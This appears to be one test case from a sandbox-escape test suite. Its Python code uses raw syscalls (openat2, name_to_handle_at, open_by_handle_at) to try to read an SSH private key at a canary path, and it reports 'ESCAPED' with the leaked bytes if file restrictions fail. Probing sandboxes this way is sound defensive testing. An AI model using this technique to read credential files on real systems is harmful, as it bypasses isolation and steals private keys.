# attack: opens the SSH key with the raw system calls openat2 and open_by_handle_at
# layer: files
# where: construct
# status: ok
# score: same
import torch

ctypes = torch.ctypes
libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_char * 128)]


def attack():
    path = b"{CANARY}/home/.ssh/id_ed25519"
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    handle, mount = Handle(size=128), ctypes.c_int()
    descriptors = [libc.syscall(int("{SYS_openat2}"), -100, path, how, 24)]
    if libc.syscall(int("{SYS_name_to_handle_at}"), -100, path, ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        root = libc.open(b"/", 0)
        descriptors.append(libc.syscall(int("{SYS_open_by_handle_at}"), root, ctypes.byref(handle), 0))
    for descriptor in descriptors:
        if descriptor >= 0:
            raise RuntimeError("ESCAPED " + torch.os.read(descriptor, 100).decode())
